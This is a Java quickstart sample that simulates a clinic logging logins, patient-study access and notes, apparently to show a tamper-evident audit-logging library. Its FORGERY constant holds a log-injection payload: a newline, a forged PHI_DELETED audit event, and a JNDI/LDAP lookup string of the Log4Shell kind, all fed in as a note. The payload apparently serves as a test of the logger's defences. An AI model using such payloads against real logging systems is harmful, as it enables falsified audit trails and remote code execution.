package io.affidavit.samples.quickstart;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.UUID;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

/**
 * A small clinic. Each line on standard input is a number of requests to serve; end of input ends
 * it. Nothing here knows of AWS, of a spool or of encryption: the code logs through SLF4J, and
 * {@code logback.xml} names the appender.
 */
public final class ClinicApplication {
  private static final Logger log = LoggerFactory.getLogger(ClinicApplication.class);
  private static final String FORGERY =
      "seen today\n{\"eventType\":\"PHI_DELETED\",\"userId\":\"dr.huber\"} ${jndi:ldap://x/y}";

  private final LoginService logins = new LoginService();
  private final StudyService studies = new StudyService();
  private final Receipts receipts;
  private int request;

  private ClinicApplication(Receipts receipts) {
    this.receipts = receipts;
  }

  public static void main(String[] args) throws IOException {
    try (Receipts receipts = Receipts.open(Path.of(args[0]))) {
      ClinicApplication clinic = new ClinicApplication(receipts);
      log.info("The clinic is open");
      BufferedReader desk =
          new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
      for (String line = desk.readLine(); line != null; line = desk.readLine()) {
        clinic.serve(Integer.parseInt(line.trim()));
        System.out.println("served " + line.trim());
      }
      log.info("The clinic is closed");
    }
  }

  private void serve(int requests) throws IOException {
    for (int i = 0; i < requests; i++) {
      String requestId = UUID.randomUUID().toString();
      MDC.put("requestId", requestId);
      try {
        serveOne(request++);
      } finally {
        MDC.remove("requestId");
      }
      // The log call has returned: from here on the event must not be lost.
      receipts.acknowledged(requestId);
    }
  }

  private void serveOne(int number) {
    Patient patient = Patient.number(number);
    String user = number % 2 == 0 ? "dr.huber" : "nurse.okafor";
    switch (number % 8) {
      case 0 -> logins.login(user, "correct horse battery staple", "10.20.30.40");
      case 1 -> logins.secondFactor(user);
      case 2 -> studies.open(user, patient);
      case 3 -> studies.view(user, patient);
      case 4 -> studies.share(user, patient, "Dr. Nadia Petrov, Eastside Cardiology");
      case 5 -> studies.note(user, patient, FORGERY);
      case 6 -> logins.failed("ada.quill@example.org", "203.0.113.77");
      default -> studies.view(user, patient);
    }
  }
}
